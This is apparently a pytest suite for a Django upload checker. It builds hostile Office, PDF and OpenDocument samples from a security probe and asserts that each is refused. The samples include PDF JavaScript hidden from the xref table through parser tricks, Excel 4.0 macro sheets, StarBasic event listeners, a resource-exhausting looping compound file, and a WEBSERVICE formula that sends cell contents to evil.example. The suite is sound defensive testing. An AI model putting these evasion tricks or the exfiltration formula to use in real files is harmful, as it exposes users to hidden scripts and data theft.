"""Files the security probe of 2026-12-04 got past the upload checks, made them crash, or made
them take minutes (scoring.services.file_content): each is now refused, in bounded time and
memory, with the Vietnamese reason; the honest neighbours still pass."""

import io
import struct
import time
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from scoring.services.evidence import evidence_file_check
from scoring.services.file_content import content_problem
from tests.helpers import xlsx
from tests.scoring import hostile_files as h

OUTSIDE = "ngoài bảng mục lục"
NOT_OPEN = "không mở được"


def refusal(name: str, data: bytes) -> str:
    with pytest.raises(ValidationError) as refused:
        evidence_file_check(SimpleUploadedFile(name, data))
    return " ".join(refused.value.messages)


def timed(extension: str, data: bytes) -> tuple[str | None, float]:
    started = time.perf_counter()
    problem = content_problem(extension, io.BytesIO(data))
    return problem, time.perf_counter() - started


# ---------------------------------------------------------------- legacy Office


def ole_with_looping_difat(fat_ids_per_hop: int = 0) -> bytes:
    """A compound file whose DIFAT sector points at itself, its header claiming 2^32-1 hops."""
    base = bytearray(h.compound_file({"WordDocument": b"x" * 100}))
    own = len(base) // 512 - 1
    words = [0] * fat_ids_per_hop + [0xFFFFFFFF] * (127 - fat_ids_per_hop) + [own]
    data = base + struct.pack("<128I", *words)
    struct.pack_into("<II", data, 0x44, own, 0xFFFFFFFF)
    if fat_ids_per_hop:
        struct.pack_into("<I", data, 0x2C, 0xFFFFFFFF)
    return bytes(data)


@pytest.mark.parametrize("fat_ids", [0, 127])
def test_a_looping_allocation_table_is_refused_at_once(fat_ids):
    problem, seconds = timed(".doc", ole_with_looping_difat(fat_ids))
    assert problem is not None and ("không mở được" in problem or "does not open" in problem)
    assert seconds < 1, seconds  # was hours (or gigabytes) for a 3 KB file


@pytest.mark.parametrize(
    "names",
    [
        ("WordDocument", "mbd0001a2b3"),
        ("WordDocument", "\x01OLE10NATIVE"),
        ("WordDocument", "_12345"),
    ],
)
def test_embedded_object_names_are_matched_without_case(names):
    assert "đối tượng nhúng (OLE)" in refusal("to-trinh.doc", h.ole_file(*names))


def test_a_ppt_object_record_inside_an_atom_body_is_found():
    hidden = h.ppt_record(0x0FBA, b"\0" * 16 + h.ppt_record(0x1011, b"\0" * 64))
    assert "đối tượng nhúng (OLE)" in refusal("bai-trinh-bay.ppt", h.ppt_file(hidden))


def biff_record(kind: int, body: bytes) -> bytes:
    return struct.pack("<HH", kind, len(body)) + body


def xls_with_sheet(sheet_type: int) -> bytes:
    """A Workbook stream: BOF, one BoundSheet8 of `sheet_type` (1: an Excel 4.0 macro sheet),
    EOF; padded past the mini-stream cutoff as Excel writes it."""
    bound_sheet = struct.pack("<IBB", 0, 0, sheet_type) + b"\x06\x00Sheet1"
    stream = biff_record(0x0809, b"\0" * 16) + biff_record(0x0085, bound_sheet)
    stream += biff_record(0x003C, b"\0" * 5000) + biff_record(0x000A, b"")
    return h.compound_file({"Workbook": stream})


def test_an_excel_4_macro_sheet_in_an_xls_is_refused_and_a_worksheet_passes():
    assert "chứa macro" in refusal("so-lieu.xls", xls_with_sheet(1))
    evidence_file_check(SimpleUploadedFile("so-lieu.xls", xls_with_sheet(0)))


# ---------------------------------------------------------------- PDF


def test_many_unlisted_headers_cost_one_read_not_one_per_header():
    payload = b"99 0 obj " * 32_000
    stream = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(payload), payload)
    problem, seconds = timed(".pdf", h.raw_pdf(b"", (4, stream)))
    assert problem is None
    assert seconds < 5, seconds  # was 21 s for 288 KB, quadratic


JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"


def second_definition() -> bytes:
    """Object 4 listed as an empty dictionary, then defined again (the script) before the
    table: the table's offset points at the first."""
    data = h.raw_pdf(b"", (4, b"<< >>"))
    extra = b"4 0 obj\n" + JS + b"\nendobj\n"
    at = data.index(b"xref\n")
    start = int(data.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    data = data[:at] + extra + data[at:]
    return data.replace(b"startxref\n%d" % start, b"startxref\n%d" % (start + len(extra)))


@pytest.mark.parametrize(
    "pdf",
    [
        # "endobj" spelled inside a string, the script after it
        pytest.param(
            h.raw_pdf(
                b"", (4, b"<< /X (endobj) /S /JavaScript /JS (app.alert(1)) >>"), unlisted=(4,)
            ),
            id="endobj-in-a-string",
        ),
        # a number the table lists, defined a second time further on
        pytest.param(second_definition(), id="second-definition"),
        pytest.param(
            h.raw_pdf(b"", (4, JS), unlisted=(4,)).replace(b"4 0 obj", b"4\x000\x00obj"),
            id="nul-as-white-space",
        ),
        pytest.param(
            h.raw_pdf(b"", (4, JS), unlisted=(4,)).replace(b"4 0 obj", b"4 0 %c\nobj"),
            id="comment-in-the-header",
        ),
    ],
)
def test_a_script_outside_the_table_is_found_however_its_object_is_written(pdf):
    assert OUTSIDE in refusal("bao-cao.pdf", pdf)


def object_stream(dictionary: bytes, content: bytes) -> bytes:
    return h.raw_pdf(b"", (5, dictionary + b"\nstream\n" + content + b"\nendstream"), unlisted=(5,))


INNER = b"6 0 " + JS


@pytest.mark.parametrize(
    "dictionary, content",
    [
        (b"<< /Type /ObjStm /N 1 /First 4 /F#69lter /FlateDecode >>", zlib.compress(INNER)),
        (
            b"<< /Type /ObjStm /N 1 /First 4 %/Filter []\n /Filter /FlateDecode >>",
            zlib.compress(INNER),
        ),
        (b"<< /Type /ObjStm /N 1 /First 4 /Filter 9 0 R >>", zlib.compress(INNER)),
        (
            b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>",
            zlib.compress(b"6 0 << >>") + zlib.compress(INNER),
        ),
    ],
    ids=["escaped-key", "comment", "indirect-filter", "second-zlib-member"],
)
def test_an_unlisted_object_stream_is_inflated_whatever_it_declares(dictionary, content):
    assert OUTSIDE in refusal("bao-cao.pdf", object_stream(dictionary, content))


# ---------------------------------------------------------------- OpenDocument


def odt(body: str, **parts) -> bytes:
    return h.odt_bytes(content=h.odf_content(body), parts=parts or None)


@pytest.mark.parametrize(
    "body, reason",
    [
        (
            '<office:event-listeners><s2:event-listener xmlns:s2="urn:oasis:names:tc:opendocument:'
            'xmlns:script:1.2" s2:language="StarBasic" s2:macro-name="Standard.M.Main" '
            's2:location="application"/></office:event-listeners>',
            "macro hoặc mã lệnh",
        ),
        (
            '<draw:frame><draw:image xmlns:l="http://www.w3.org/1999/xlink" '
            'l:href="http://tracker.example/p.png"/></draw:frame>',
            "nội dung bên ngoài tệp (http://tracker.example/p.png)",
        ),
        (
            '<office:forms><form:form xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" '
            'form:datasource="file:///C:/data.odb"/></office:forms>',
            "nội dung bên ngoài tệp (file:///C:/data.odb)",
        ),
        (
            '<table:table><table:table-row><table:table-cell table:formula="of:=WEBSERVICE('
            '&quot;http://evil.example/?&quot;&amp;[.A1])"/></table:table-row></table:table>',
            "công thức",
        ),
    ],
    ids=["event-listener-1.2", "href-other-prefix", "form-datasource", "webservice-formula"],
)
def test_an_opendocument_trick_is_refused(body, reason):
    assert reason in refusal("bien-ban.odt", odt(body))


def test_opendocument_macros_in_a_lower_case_folder_are_refused():
    assert "chứa macro" in refusal(
        "bien-ban.odt", odt("<text:p/>", **{"basic/Standard/M.xml": b"x"})
    )


def test_two_parts_of_one_name_are_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        with pytest.warns(UserWarning):
            archive.writestr(
                "content.xml", h.odf_content('<text:a xlink:href="file:///x">x</text:a>')
            )
            archive.writestr("content.xml", h.odf_content())
    assert NOT_OPEN in refusal("bien-ban.odt", buffer.getvalue())


def test_a_huge_part_is_refused_in_seconds_and_flat_memory():
    body = (
        '<text:a xlink:href="https://thuvienphapluat.vn/">Luật</text:a><text:p>'
        + ("<text:s/>" * 2_100_000)
        + "</text:p>"
    )
    data = h.odt_bytes(content=h.odf_content(body))
    problem, seconds = timed(".odt", data)
    assert "too many to check" in problem or "quá nhiều" in problem
    assert seconds < 10, seconds  # was 42 s and 1.1 GB for 100 MB of elements


def test_a_damaged_member_is_refused_not_a_crash():
    data = bytearray(h.odt_bytes())
    at = data.find(b"<manifest:manifest/>")
    data[at] ^= 0xFF  # the stored manifest no longer matches its CRC
    assert NOT_OPEN in refusal("bien-ban.odt", bytes(data))


# ---------------------------------------------------------------- OOXML


def test_an_excel_4_macro_sheet_part_is_refused():
    assert "chứa macro" in refusal(
        "so-lieu.xlsx", h.zip_with(xlsx({"A": [[1]]}), {"xl/macrosheets/sheet1.xml": b"<x/>"})
    )


def test_a_package_outside_embeddings_is_refused():
    data = h.docx_with(
        {
            "word/_rels/document.xml.rels": h.relationships(
                f'<Relationship Id="rId1" Type="{h.RELS}/package" Target="media/Book1.xlsx"/>'
            ),
            "word/media/Book1.xlsx": xlsx({"A": [[1]]}),
        }
    )
    assert "đối tượng nhúng (OLE)" in refusal("ke-hoach.docx", data)
